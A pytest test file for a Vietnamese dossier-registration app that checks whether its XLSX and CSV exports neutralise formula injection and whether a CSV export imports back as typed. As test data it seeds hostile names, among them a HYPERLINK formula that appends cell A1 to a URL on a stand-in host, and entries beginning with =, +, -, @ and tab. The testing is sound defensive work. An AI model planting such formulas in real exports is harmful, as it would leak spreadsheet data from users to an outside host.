"""No formula in any export: text a person typed is written as text, neutralised, and imports back as typed."""
import csv
import io
from datetime import datetime

import openpyxl
import pytest
from sqlalchemy import select

from app.dossiers.cli import dossiers_cli
from app.dossiers.models import Dossier
from app.dossiers.operations import Applicant, Intake, ReceivedDocument, register_dossier
from app.extensions import db
from app.units.models import Unit
from app.worktime.deadlines import OfficeHours
from app.worktime.vietnam import build_calendar
from conftest import birth_registration_in_each_ward

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"x")'
HOSTILE_NAMES = [FORMULA, "+84 912 345 678", "-Nguyễn", "@SUM(A1:A9)", "\t=1+1", "'=đã có nháy"]
CALENDAR = build_calendar(OfficeHours())


@pytest.fixture
def hostile_dossiers(world):
    offerings = birth_registration_in_each_ward(world)
    db.session.commit()
    clerk = world.user("clerk", "a")
    for minute, name in enumerate(HOSTILE_NAMES):
        received = datetime(2026, 11, 16, 9, minute)
        intake = Intake(offering=offerings[world.ward_a.id], channel="direct", online_kind=None, received_at=received,
                        applicant=Applicant(name, "001190012345", "0912345678", "=1+2"),
                        documents=[ReceivedDocument("Tờ khai")])
        register_dossier(intake, CALENDAR, clerk, "pause", received)
        db.session.commit()
    return world


def stored_names() -> list[str]:
    db.session.expire_all()
    return sorted(db.session.scalars(select(Dossier.applicant_name)))


def test_the_register_xlsx_stores_typed_text_as_text_never_as_a_formula(client, login_as, hostile_dossiers):
    world = hostile_dossiers
    login_as(world.user("clerk", "a"))
    response = client.get(f"/units/{world.ward_a.id}/register.xlsx?first_day=16/11/2026&last_day=16/11/2026")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {cell.value for cell in cells if cell.column == 5}
    assert "'" + FORMULA in names and "'+84 912 345 678" in names and "'-Nguyễn" in names
    addresses = {cell.value for cell in cells if cell.column == 6}
    assert "'=1+2" in addresses


def test_the_register_csv_export_neutralises_every_name_and_imports_back_as_typed(app, hostile_dossiers, tmp_path):
    path = tmp_path / "export.csv"
    result = app.test_cli_runner().invoke(dossiers_cli, ["export", str(path)])
    assert result.exit_code == 0, result.output
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    written = sorted(row["applicant_name"] for row in rows)
    assert not [name for name in written if name[:1] in set("=+-@\t\r")]
    assert "'" + FORMULA in written and "''=đã có nháy" in written

    typed = stored_names()
    for table in reversed(db.metadata.sorted_tables):
        if table.name.startswith(("dossier", "supplement", "apolog")):
            db.session.execute(table.delete())
    db.session.commit()
    reimported = app.test_cli_runner().invoke(dossiers_cli, ["import", str(path)])
    assert reimported.exit_code == 0, reimported.output
    assert "'=đã có nháy" in typed and FORMULA in typed
    assert stored_names() == typed


def test_a_hostile_unit_name_is_text_in_the_comparison_and_figures_downloads(client, login_as, world):
    db.session.execute(Unit.__table__.update().where(Unit.id == world.ward_b.id).values(name=FORMULA))
    db.session.commit()
    login_as(world.users["officer_city"])
    period = "period=custom&from=2025-03-01&to=2025-03-31"

    comparison_csv = client.get(f"/units/{world.city.id}/comparison.csv?{period}").data.decode("utf-8-sig")
    assert "'" + FORMULA in [row["Đơn vị"] for row in csv.DictReader(io.StringIO(comparison_csv))]
    for url in (f"/units/{world.city.id}/comparison.xlsx?{period}", f"/units/{world.ward_b.id}/figures.xlsx?{period}"):
        sheet = openpyxl.load_workbook(io.BytesIO(client.get(url).data)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], url
        assert any(FORMULA in str(cell.value) for cell in cells), url
